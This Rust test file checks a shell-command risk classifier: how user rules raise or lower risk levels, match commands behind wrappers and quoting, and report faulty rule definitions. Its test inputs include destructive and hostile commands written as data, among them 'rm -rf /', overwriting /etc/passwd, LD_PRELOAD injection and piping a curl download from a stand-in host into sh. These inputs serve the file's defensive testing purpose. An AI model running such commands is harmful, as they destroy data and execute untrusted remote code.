//! The user's rules: refused rules, levels that a rule may change, and the built-in verdict beside a rule.

use super::*;
use RiskLevel::{Blocked, Caution, Dangerous, Safe};

fn rule(id: &str, prefix: &[&str], level: RiskLevel) -> UserRule {
    UserRule {
        id: id.to_owned(),
        prefix: prefix.iter().map(|word| (*word).to_owned()).collect(),
        level,
        reason: format!("{id} says so"),
        must_match: vec![format!("{} more", prefix.join(" "))],
        must_not_match: vec!["true".to_owned()],
    }
}

fn verdict_with(rules: &[UserRule], command: &str) -> CommandVerdict {
    of_command(command, Shell::Bash, &UserRules::new(rules.to_vec()).unwrap())
}

fn levels(rules: &[UserRule], command: &str) -> (RiskLevel, RiskLevel) {
    let verdict = verdict_with(rules, command);
    (verdict.level, verdict.builtin.level)
}

#[test]
fn a_rule_may_raise_to_any_level() {
    for level in [Caution, Dangerous, Blocked] {
        assert_eq!(levels(&[rule("mine", &["ls"], level)], "ls -l"), (level, Safe));
    }
    assert_eq!(levels(&[rule("mine", &["rm"], Blocked)], "rm -rf build"), (Blocked, Dangerous));
}

#[test]
fn rules_lower_only_dangerous_to_caution() {
    let lower = [rule("mine", &["rm", "-rf"], Caution), rule("sum", &["python3", "-c"], Caution)];
    assert_eq!(levels(&lower, "rm -rf build"), (Caution, Dangerous));
    assert_eq!(levels(&lower, "python3 -c 'import os; os.abort()'"), (Caution, Dangerous));
    assert_eq!(levels(&lower, "rm -rf /"), (Blocked, Blocked));
    assert_eq!(levels(&[rule("mine", &["make"], Caution)], "make"), (Caution, Caution));
    let still = [rule("mine", &["rm", "-rf"], Dangerous)];
    assert_eq!(levels(&still, "rm -rf /"), (Blocked, Blocked));
}

#[test]
fn lowering_affects_only_the_matching_command() {
    let lower = [rule("mine", &["rm", "-rf", "build"], Caution)];
    for beside in [
        "rm -rf build; rm -rf src",
        "rm -rf build > /etc/passwd",
        "LD_PRELOAD=./x.so rm -rf build",
        "rm -rf build && $RUN",
        "rm -rf build | sh",
        "rm -rf \"$(curl -s https://x.example | sh)\" build",
    ] {
        assert_eq!(verdict_with(&lower, beside).level, Dangerous, "{beside}");
    }
}

#[test]
fn the_strictest_matching_rule_wins_in_any_order() {
    let mut rules =
        [rule("low", &["rm", "-rf"], Caution), rule("high", &["rm", "-rf", "keep"], Blocked)];
    for _ in 0..2 {
        assert_eq!(verdict_with(&rules, "rm -rf keep").rule, "high");
        assert_eq!(verdict_with(&rules, "rm -rf build").rule, "low");
        rules.reverse();
    }
    let two = [rule("first", &["make"], Dangerous), rule("second", &["make", "all"], Dangerous)];
    assert_eq!(verdict_with(&two, "make all").rule, "first");
}

#[test]
fn the_builtin_verdict_is_kept() {
    let verdict = verdict_with(&[rule("mine", &["rm", "-rf"], Caution)], "ls && rm -rf build");
    assert_eq!((verdict.rule.as_str(), verdict.user_rule), ("mine", true));
    assert_eq!(verdict.reason, "mine says so");
    assert_eq!(verdict.builtin.rule, "delete-recursive");
    assert_eq!(verdict.builtin.span, 6..18);
    assert!(!verdict.builtin.reason.is_empty());
    let untouched = verdict_with(&[rule("mine", &["make"], Blocked)], "rm -rf build");
    assert!(!untouched.user_rule);
    assert_eq!(untouched.builtin.rule, untouched.rule);
}

#[test]
fn rules_match_behind_wrappers_quotes_and_paths() {
    let rules = [rule("mine", &["deploy", "prod"], Blocked)];
    for command in [
        "deploy prod --now",
        "sudo -u x deploy prod",
        "bash -c 'deploy prod'",
        "dep\"lo\"y p'ro'd",
        "/usr/local/bin/deploy prod",
        "ls; X=prod; deploy $X",
        "echo a | xargs deploy prod",
        "$'deploy' prod",
        "f() { deploy \"$1\"; }; f prod",
        "ssh host deploy prod",
    ] {
        assert_eq!(verdict_with(&rules, command).level, Blocked, "{command}");
    }
    for command in ["deploy staging", "echo deploy prod", "prod deploy", "deploy 'prod x'"] {
        assert!(!verdict_with(&rules, command).user_rule, "{command}");
    }
    let by_path = [rule("mine", &["./deploy.sh"], Blocked)];
    assert_eq!(verdict_with(&by_path, "bash -c ./deploy.sh").level, Blocked);
    let full = [rule("mine", &["/usr/bin/make"], Blocked)];
    assert_eq!(verdict_with(&full, "/usr/bin/make all").level, Blocked);
    assert_eq!(verdict_with(&full, "make all").level, Caution);
}

#[test]
fn a_rule_about_a_wrapper_counts_too() {
    for level in [Caution, Dangerous, Blocked] {
        assert_eq!(verdict_with(&[rule("mine", &["timeout"], level)], "timeout 5 ls").level, level);
    }
}

#[test]
fn faulty_rules_are_named() {
    let named = |change: fn(&mut UserRule)| {
        let mut bad = rule("the-bad-one", &["make"], Blocked);
        change(&mut bad);
        UserRules::new(vec![rule("good", &["cargo"], Caution), bad]).unwrap_err().to_string()
    };
    let faults = [
        named(|bad| bad.must_match.push("cargo build".to_owned())),
        named(|bad| bad.must_not_match.push("sudo make all".to_owned())),
        named(|bad| bad.must_match.clear()),
        named(|bad| bad.prefix.clear()),
        named(|bad| bad.prefix.push(String::new())),
        named(|bad| bad.reason.clear()),
        named(|bad| bad.level = Safe),
    ];
    for fault in faults {
        assert!(fault.contains("\"the-bad-one\""), "{fault}");
    }
    let twice = vec![rule("same", &["make"], Blocked), rule("same", &["ls"], Blocked)];
    assert_eq!(UserRules::new(twice), Err(BadRule::Twice("same".to_owned())));
    // An example that cannot be classified proves nothing about the rule.
    let mut unread = rule("the-bad-one", &["make"], Blocked);
    unread.must_match = vec!["make 'all".to_owned()];
    assert!(matches!(UserRules::new(vec![unread]), Err(BadRule::NoMatch { .. })));
}

#[test]
fn a_rule_of_the_settings_is_read_strictly() {
    let tables = |text: &str| {
        let table: toml::Table = toml::from_str(text).unwrap();
        let rules = table["rules"].as_array().unwrap();
        rules.iter().map(|rule| rule.as_table().unwrap().clone()).collect::<Vec<_>>()
    };
    let good = "[[rules]]\nid = 'mine'\nprefix = ['make']\nlevel = 'blocked'\nreason = 'no'\nmust_match = ['make all']\nmust_not_match = ['ls']\n";
    assert_eq!(UserRules::read(&tables(good)).unwrap().len(), 1);
    for (from, to) in [
        ("must_match", "must_mach"),
        ("'blocked'", "'forbidden'"),
        ("['make']", "'make'"),
        ("reason = 'no'\n", ""),
        ("must_not_match = ['ls']\n", ""),
        ("reason", "extra = 1\nreason"),
    ] {
        let fault = UserRules::read(&tables(&good.replace(from, to))).unwrap_err().to_string();
        assert!(fault.contains("\"mine\""), "{fault}");
    }
    let unnamed = UserRules::read(&tables(&good.replace("id = 'mine'\n", ""))).unwrap_err();
    assert!(unnamed.to_string().contains("number 1"), "{unnamed}");
}
